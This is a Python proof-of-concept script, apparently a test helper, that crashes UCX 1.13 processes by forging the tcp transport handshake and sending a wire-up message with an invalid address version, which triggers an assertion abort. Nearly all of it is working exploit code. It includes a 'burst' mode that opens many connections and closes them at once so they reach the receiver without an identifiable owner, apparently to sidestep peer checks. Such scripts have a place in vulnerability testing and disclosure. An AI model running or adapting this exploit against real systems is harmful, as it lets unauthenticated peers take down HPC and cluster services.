#!/usr/bin/env python3
"""Crash a UCX 1.13 process through its UCT tcp transport (test helper).

Usage: python3 ucx_handshake_attack.py HOST PORT [--burst N]

--burst N: N connections, each writing the whole attack at once and closed at
once (with a short TCP_LINGER2), so that the receiver meets them as remnants of
closed sockets, which the kernel reports without an owner (uid 0).

HOST:PORT must be the listening port of a UCX "tcp" interface (UCT tcp iface),
not a sockaddr/CM listener.  The script acts like a UCX tcp endpoint opening a
connection (magic number + CONN_REQ), then sends a UCP wire-up message whose
packed worker address claims address version 15.  UCX 1.13 does not validate
that value: ucp_address_unpack_header() hits ucs_assertv_always(... "addr
version 15") and the receiving process aborts.  Plain garbage only makes UCX
drop the connection, so an abort proves the wire-up path is reachable by
unauthenticated peers.

Exit status: 0 when every message was sent (then reports whether the peer
closed the connection), 1 on a connection or send error, 2 on bad usage.
Standard library only.
"""
import socket
import struct
import sys
import time

# --- constants of UCX 1.13 (values checked against the v1.13.1 sources) -----
TCP_MAGIC = 0xCAFEBABE12345678  # first 8 bytes an initiator writes (tcp.h)
UCT_AM_ID_MAX = 32              # 1 << UCT_AM_ID_BITS (5), uct_def.h
CM_AM_ID = UCT_AM_ID_MAX        # tcp-internal id carrying connection-manager msgs
CONN_REQ, CONN_ACK = 1, 2       # uct_tcp_cm_conn_event_t bits (a 4-byte enum)
UCP_AM_ID_WIREUP = 1            # UCP's wire-up handler id (ucp_types.h)
WIREUP_MSG_REQUEST = 1          # PRE_REQUEST=0, REQUEST=1, ... (wireup.h)
BAD_ADDR_VERSION = 15           # only 0 (V1) and 1 (V2) are understood


def tcp_am(am_id, payload):
    """Frame one UCT tcp active message.

    Every message on a UCX tcp stream starts with a packed 5-byte header:
    a 1-byte AM id followed by a 4-byte little-endian payload length
    (uct_tcp_am_hdr_t, UCS_S_PACKED, so there is no padding)."""
    return struct.pack("<BI", am_id, len(payload)) + payload


def sockaddr_bytes(sock):
    """Raw struct sockaddr_in / sockaddr_in6 of our own end of the socket.

    The CONN_REQ carries the initiator's interface address as a raw C
    sockaddr, and the acceptor insists that its length equals the length of
    its *own* interface sockaddr (16 for IPv4, 28 for IPv6), so we mirror the
    family of the connection.  The family must be a real one: the acceptor
    later compares it against its own address and asserts if that fails.  Our
    ephemeral port makes the (address, conn_sn) pair unique on the acceptor."""
    host, port = sock.getsockname()[:2]
    if sock.family == socket.AF_INET:
        # sa_family (host order u16), sin_port (network order), sin_addr, zero[8]
        return (struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) +
                socket.inet_pton(socket.AF_INET, host) + b"\0" * 8)
    # sockaddr_in6: family, port, flowinfo, 16-byte address, scope_id
    scope = sock.getsockname()[3]
    return (struct.pack("<H", socket.AF_INET6) + struct.pack(">HI", port, 0) +
            socket.inet_pton(socket.AF_INET6, host.split("%")[0]) +
            struct.pack("<I", scope))


def conn_req(sock):
    """Connection request as UCX's tcp connection manager sends it.

    Layout of uct_tcp_cm_conn_req_pkt_t (packed): 4-byte event (CONN_REQ),
    1-byte flags (0 = "connect to iface" mode, so no CONNECT_TO_EP lookup),
    8-byte cm_id (a connection sequence number; any small value), and then
    the initiator's sockaddr.  It travels as a CM_AM_ID active message."""
    pkt = struct.pack("<IBQ", CONN_REQ, 0, 0) + sockaddr_bytes(sock)
    return tcp_am(CM_AM_ID, pkt)


def wireup_with_bad_address():
    """UCP wire-up REQUEST whose packed worker address has version 15.

    ucp_wireup_msg_t (packed, 20 bytes): type u8, err_mode u8, conn_sn u16,
    src_ep_id u64, dst_ep_id u64.  dst_ep_id 0 means "no destination
    endpoint yet", so the handler skips the endpoint lookup and goes straight
    to unpacking the address that follows.  The first byte of a packed UCP
    address holds the address version in its low 4 bits (flags above it);
    we put 15 there.  A few extra zero bytes stand in for the rest."""
    msg = struct.pack("<BBHQQ", WIREUP_MSG_REQUEST, 0, 0, 0x1234, 0)
    address = bytes([BAD_ADDR_VERSION]) + b"\0" * 15
    return tcp_am(UCP_AM_ID_WIREUP, msg + address)


def peer_closed(sock, wait):
    """True if the peer closed/reset the connection within `wait` seconds."""
    sock.settimeout(wait)
    try:
        while True:
            if not sock.recv(4096):
                return True
    except socket.timeout:
        return False
    except OSError:  # ECONNRESET and friends
        return True


def burst(host, port, n):
    """N connections that each write magic, CONN_REQ and the poisoned wire-up in one go, then
    all closed at once: by the time the receiver accepts the later ones, their senders' sockets
    are FIN_WAIT2 remnants (TCP_LINGER2 keeps them briefly) that name no owner."""
    socks = []
    try:
        for _ in range(n):
            sock = socket.create_connection((host, port), timeout=5)
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_LINGER2, 5)
            sock.sendall(struct.pack("<Q", TCP_MAGIC) + conn_req(sock) + wireup_with_bad_address())
            socks.append(sock)
    except OSError as exc:
        print("error after %d connections: %s" % (len(socks), exc))
    for sock in socks:
        sock.close()
    print("sent %d" % len(socks))
    return 0 if socks else 1


def main(argv):
    if len(argv) == 5 and argv[3] == "--burst":
        return burst(argv[1], int(argv[2]), int(argv[4]))
    if len(argv) != 3:
        sys.stderr.write("usage: %s HOST PORT [--burst N]\n" % argv[0])
        return 2
    host, port = argv[1], int(argv[2])
    try:
        sock = socket.create_connection((host, port), timeout=5)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

        # 1. Magic number immediately followed by the CONN_REQ (one write,
        #    just like the real initiator does).
        sock.sendall(struct.pack("<Q", TCP_MAGIC) + conn_req(sock))

        # 2. The acceptor answers with a CONN_ACK (9 bytes: AM header +
        #    4-byte event).  Waiting for it is not strictly needed, but it
        #    confirms that the CONN_REQ was accepted.
        sock.settimeout(3)
        ack = b""
        try:
            while len(ack) < 9:
                chunk = sock.recv(9 - len(ack))
                if not chunk:
                    break
                ack += chunk
        except socket.timeout:
            pass
        if ack == tcp_am(CM_AM_ID, struct.pack("<I", CONN_ACK)):
            print("CONN_ACK received")
        else:
            print("no CONN_ACK (got %r), sending wire-up anyway" % ack)

        # 3. The poisoned wire-up message.
        sock.sendall(wireup_with_bad_address())
    except OSError as exc:
        print("error: %s" % exc)
        return 1

    if peer_closed(sock, 3):
        print("sent; connection closed by peer")
    else:
        print("sent; connection still open")
    sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
